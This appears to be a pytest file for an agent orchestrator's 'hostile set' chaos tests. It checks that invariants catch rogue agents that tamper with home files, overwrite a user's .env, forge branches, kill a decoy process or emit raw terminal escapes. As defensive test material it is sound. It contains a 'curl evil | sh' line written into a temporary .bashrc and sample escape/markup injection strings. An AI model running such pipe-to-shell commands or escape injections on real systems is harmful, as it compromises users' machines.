"""The hostile set's own parts (chaos_hostile.py), checked with every `make test`: its
plan holds every hostile agent beside honest lanes, its agents are valid Python, and each
of its invariants holds on a run that went as it should and fires on the violation it
guards. The runs themselves are `make chaos`'s (CHAOS_SCENARIO=hostile-set)."""

from __future__ import annotations

import copy
import py_compile
from pathlib import Path
from typing import Any

import pytest
from chaos_hostile import (
    IGNORED,
    INVARIANTS,
    ON_MAIN,
    REFUSED_SAY,
    SET,
    USER_ENV,
    USER_NOTES,
    HostileSet,
)
from chaos_invariants import violations
from chaos_run import Command, Observed
from chaos_scenarios import SCENARIOS, make_plan

SETS = [s for s in SCENARIOS.values() if s.hostile_set]
SHOWN = "[link=file:///etc/p… \\x1b[2J\\x1b]0;owned… [bold]x\n"


def test_every_hostile_set_scenario_runs_every_hostile_agent_beside_honest_lanes() -> None:
    assert {s.name for s in SETS} >= {"hostile-set", "hostile-set-kill-orchestrator+clock"}
    assert any(s.faults for s in SETS)
    assert any(not s.faults for s in SETS)
    for scenario in SETS:
        plan = make_plan(scenario.seed, scenario)
        assert plan == make_plan(scenario.seed, scenario)
        scripted = {lane.lane_id: lane.script for lane in plan.lanes if lane.script}
        assert scripted == {name: name for name in SET}
        assert [lane for lane in plan.lanes if not lane.script], "no honest lane"
        assert set(INVARIANTS) <= set(scenario.invariants)


def test_the_hostile_set_prepares_its_agents_and_everything_they_attack(tmp_path: Path) -> None:
    hostile = HostileSet(tmp_path)
    scripts = hostile.prepare({"PATH": "/usr/bin:/bin"})
    try:
        assert set(scripts) == set(SET)
        for script in scripts.values():
            py_compile.compile(script, doraise=True)
        repo = tmp_path / "repo"
        repo.mkdir()
        hostile.user_files(repo)
        before = hostile.snapshot(repo)
        assert before["user"] == {".env": USER_ENV, "notes.txt": USER_NOTES}
        assert ".bashrc" in before["home"]
        assert "rev-parse HEAD" in before["outside"]
        (hostile.home / ".bashrc").write_text("curl evil | sh\n")
        (repo / ".env").write_text("SECRET=agent\n")
        after = hostile.snapshot(repo)
        seen = _good()
        seen.extra.update(before=before, after=after)
        assert INVARIANTS["outside-intact"](seen) == ["home changed: .bashrc"]
        assert INVARIANTS["user-files-intact"](seen) == ["the user's .env is now 'SECRET=agent\\n'"]
    finally:
        assert hostile.end_decoy()  # the decoy lived until then


def _cmd(*args: str, code: int = 0, out: str = "", err: str = "") -> Command:
    return Command(list(args), code, out, err, 0.1)


def _good() -> Observed:
    """What a hostile-set run that went as it should observed (judged by INVARIANTS)."""
    scenario = SCENARIOS["hostile-set"]
    plan = make_plan(scenario.seed, scenario)
    lanes: dict[str, dict[str, Any]] = {}
    for name, s in SET.items():
        status = {"merged": "merged", "skipped": "completed", "refused": "completed"}.get(
            s.merge, s.status
        )
        merge = {"merged": "merged", "skipped": "skipped"}.get(s.merge)
        lanes[name] = {"status": status, "error": s.says or None, "merge": {"status": merge}}
    for lane in plan.lanes:
        lanes.setdefault(lane.lane_id, {"status": "merged", "merge": {"status": "merged"}})
    refused = [n for n, s in SET.items() if s.merge == "refused"]
    commands = [
        _cmd("cancel", "forge-pid", out="forge-pid: stopping its agent (pid 41); kept\n"),
        _cmd("status", out=SHOWN),
        _cmd("logs", "markup", out=SHOWN),
        _cmd("merge", code=3, err=f"orchestree: lane {refused[0]}: {REFUSED_SAY} in /r\n"),
        *[_cmd("merge", "--lane", n, code=3, err=f"lane {n}: {REFUSED_SAY}\n") for n in refused],
        _cmd("cleanup"),
    ]
    seen = Observed(plan, Path("/nonexistent"), commands=commands, final={"lanes": lanes})
    snapshot = {"outside": {"f": "00"}, "home": {".bashrc": "01"}, "user": {".env": USER_ENV}}
    seen.extra = {
        "before": snapshot,
        "after": copy.deepcopy(snapshot),
        "canary": False,
        "forged_branches": [],
        "kept": True,
        "on_main": ["README.md", *ON_MAIN],
        "ignored": [f"{edit} changed" for edit in IGNORED],
        "signals": {
            "forge-lane": "[2, 2]",
            "forge-pid": "forged",
            "liar": "2",
            "nan": "[2, 2]",
            "markup": "0",
        },
        "decoy_pid": 4242,
        "decoy_alive": True,
    }
    return seen


def _break(seen: Observed, how: str) -> None:
    lanes, extra = seen.final["lanes"], seen.extra
    if how == "detach completed":
        lanes["detach"].update(status="completed", error=None)
    elif how == "delete-dotgit error unnamed":
        lanes["delete-dotgit"]["error"] = "exited with code 1"
    elif how == "orch paths merged":
        lanes["commits-orch-paths"].update(status="merged", merge={"status": "merged"})
    elif how == "env merged":
        extra["on_main"].append(".env")
    elif how == "victim merged":
        extra["on_main"].append("victim.txt")
    elif how == "refusal silent":
        seen.commands[3] = _cmd("merge", code=0)
    elif how == "detach lost":
        extra["kept"] = False
    elif how == "outside changed":
        extra["after"]["outside"]["f"] = "ff"
    elif how == "env overwritten":
        extra["after"]["user"][".env"] = "SECRET=agent\n"
    elif how == "canary":
        extra["canary"] = True
    elif how == "forged branch":
        extra["forged_branches"] = ["refs/heads/lane-evil"]
    elif how == "forged lane unnoticed":
        extra["ignored"] = [i for i in extra["ignored"] if "evil" not in i]
    elif how == "helper took a forged update":
        extra["signals"]["liar"] = "0"
    elif how == "decoy killed":
        extra["decoy_alive"] = False
    elif how == "cancel names decoy":
        seen.commands[0] = _cmd("cancel", "forge-pid", out="stopping its agent (pid 4242)\n")
    elif how == "never forged":
        extra["signals"]["forge-pid"] = None
    elif how == "raw escape":
        seen.commands[1] = _cmd("status", out=SHOWN + "\x1b[2J")
    elif how == "markup rendered":
        seen.commands[2] = _cmd("logs", "markup", out="click \\x1b[2J\n")
    elif how == "honest failed":
        honest = next(lane.lane_id for lane in seen.plan.lanes if not lane.script)
        lanes[honest]["status"] = "failed"
    else:
        raise AssertionError(how)


@pytest.mark.parametrize(
    ("how", "invariant"),
    [
        ("detach completed", "hostile-outcome"),
        ("delete-dotgit error unnamed", "hostile-outcome"),
        ("orch paths merged", "hostile-outcome"),
        ("env merged", "hostile-outcome"),
        ("victim merged", "hostile-outcome"),
        ("refusal silent", "hostile-outcome"),
        ("detach lost", "hostile-outcome"),
        ("outside changed", "outside-intact"),
        ("env overwritten", "user-files-intact"),
        ("canary", "nothing-unplanned"),
        ("forged branch", "nothing-unplanned"),
        ("forged lane unnoticed", "nothing-unplanned"),
        ("helper took a forged update", "nothing-unplanned"),
        ("decoy killed", "decoy-alive"),
        ("cancel names decoy", "decoy-alive"),
        ("never forged", "decoy-alive"),
        ("raw escape", "shown-as-text"),
        ("markup rendered", "shown-as-text"),
        ("honest failed", "honest-merged"),
    ],
)
def test_each_hostile_set_invariant_fires_on_its_violation(how: str, invariant: str) -> None:
    seen = _good()
    assert violations(seen, tuple(INVARIANTS)) == []
    _break(seen, how)
    assert INVARIANTS[invariant](seen), how
